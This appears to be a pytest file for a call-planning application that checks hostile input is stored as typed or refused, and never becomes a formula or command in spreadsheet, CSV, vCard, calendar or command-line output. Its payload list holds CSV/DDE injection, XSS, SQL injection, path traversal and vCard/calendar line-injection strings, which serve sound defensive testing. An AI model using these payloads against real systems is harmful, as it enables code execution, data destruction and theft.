"""Promise 16 and hostile input: whatever is typed is stored and shown as typed or refused in words, and is never a
formula, a tag or a command in anything that leaves the program."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import pytest

from callplanner.cli.main import run
from callplanner.domain.errors import PlannerError
from callplanner.services.record import CallReport
from callplanner.services.wording import sentence
from tests.desk import Desk
from tests.real_data import real

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", '=HYPERLINK("http://example.com","x")', "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "'=1+1", "＝1+1", "%0A=1+1", ";=1+1", "<b>x</b>", "<img src=x onerror=alert(1)>", "x'); DROP TABLE customer;--",
    "../../etc/passwd", "{name}", "%s%n", "a\u202egnp.exe", "\u200f\u200eמרחבא", "e\u0301", "🧿" * 20, "a\x00b",
    "\x1b[31m", "line\none", "BEGIN:VCARD\nEND:VCARD", "x\r\nATTENDEE:mailto:a@b", "\ufeffx", "\ufffe",
)  # fmt: skip


def naughty() -> list[str]:
    """The payloads above and two public lists of hostile strings."""
    found = []
    for name in ("blns.txt", "csv-injection-payload.txt"):
        lines = real(f"B_naughty_strings/{name}").read_text(encoding="utf-8").split("\n")
        found += [line for line in lines if line.strip() and not line.startswith("#")]
    return [*PAYLOADS, *found]


def is_told(error: PlannerError) -> bool:
    words = sentence(error)
    return words.endswith(".") and "{" not in words.replace(str(error.facts.get("text", "")), "")


@pytest.mark.slow
def test_what_is_typed_is_shown_as_typed_in_every_export(desk: Desk, tmp_path: Path) -> None:
    texts = naughty()
    names: list[str] = []
    for text in texts:
        who, _ = desk.planner.add_customer(name=text, note=text, town=text, segment=text, phone="+442079460911")
        names.append(desk.planner.card(who).name)
        assert names[-1] == text.strip()
        desk.planner.record(CallReport(who, "no_answer", note=text))
        desk.planner.add_touch(who, "article", text or "x")
        desk.planned(who, desk.today)
    assert desk.planner.check() == ()
    for ending in ("xlsx", "csv"):
        for name in ("customers", "programme", "today", "fringe", "coverage", "attempts"):
            path = tmp_path / f"{name}.{ending}"
            desk.planner.export(name, path)
            harmless(path)
    sheet = tmp_path / "sheet.xlsx"
    desk.planner.export_call_sheet(sheet)
    for cells in openpyxl.load_workbook(sheet).worksheets:
        for cell in (cell for row in cells.iter_rows() for cell in row):
            assert cell.data_type != "f", cell.value
    cards, calendar = tmp_path / "customers.vcf", tmp_path / "programme.ics"
    desk.planner.export("customers", cards)
    desk.planner.export("programme", calendar)
    assert cards.read_text(encoding="utf-8").count("\nEND:VCARD") == len(names)
    lines = calendar.read_text(encoding="utf-8").splitlines()
    assert not [line for line in lines if line.startswith("ATTENDEE")]


def harmless(path: Path) -> None:
    """No cell of the file is a formula, or would be taken for one by a spreadsheet."""
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        kinds = {cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
        assert "f" not in kinds, path.name
        return
    with path.open(encoding="utf-8-sig", newline="") as handle:
        for row in csv.reader(handle):
            for cell in row:
                assert not cell.startswith(("=", "@", "\t", "\r")), cell
                assert not cell.startswith(("+", "-")) or NUMBER_OR_PHONE.fullmatch(cell), cell


NUMBER_OR_PHONE = re.compile(r"[+-][\d\s().,/-]+(E[+-]?\d+)?%?", re.I)
FIELDS = ("name", "note", "town", "email", "segment", "street", "person")


@pytest.mark.parametrize("text", ["\ud800", "a\udfffb"])
def test_half_characters_are_refused_in_words_or_kept_whole(desk: Desk, text: str) -> None:
    who = desk.customer("Ada")
    before = desk.dump()
    for deed in (
        lambda: desk.planner.add_customer(name=text),
        lambda: desk.planner.edit_customer(who, note=text),
        lambda: desk.planner.record(CallReport(who, "no_answer", note=text)),
        lambda: desk.planner.add_promise(who, text, None),
        lambda: desk.planner.add_touch(who, "article", text),
        lambda: desk.planner.suppress(who, text),
        lambda: desk.planner.skip(who, text),
    ):
        with pytest.raises(PlannerError) as refused:
            deed()
        assert is_told(refused.value)
        sentence(refused.value).encode()
    assert desk.dump() == before
    assert desk.planner.search(text) == []
    with pytest.raises(PlannerError):
        desk.planner.find(text)


def test_a_megabyte_is_refused_in_words(desk: Desk) -> None:
    who = desk.customer("Ada")
    before = desk.dump()
    long = "x" * 1_000_000
    for field in FIELDS:
        with pytest.raises(PlannerError) as refused:
            desk.planner.edit_customer(who, **{field: long})
        assert is_told(refused.value)
    with pytest.raises(PlannerError):
        desk.planner.record(CallReport(who, "no_answer", note=long))
    with pytest.raises(PlannerError):
        desk.planner.suppress(who, long)
    with pytest.raises(PlannerError):
        desk.planner.skip(who, long)
    assert desk.dump() == before


@pytest.mark.parametrize("text", [*PAYLOADS[:12], "x" * 5_000])
def test_the_command_line_says_no_in_one_sentence(company: Path, capsys: pytest.CaptureFixture[str], text: str) -> None:
    options = ["--database", str(company), "--today", "2024-03-12", "--json"]
    for command in ("customer", "why", "suppress", "export", "merge"):
        status = run([*options, command, "--", text])
        told = capsys.readouterr()
        assert status in (1, 2), command
        assert "Traceback" not in told.err
        assert "Something went wrong" not in told.err, (command, told.err)
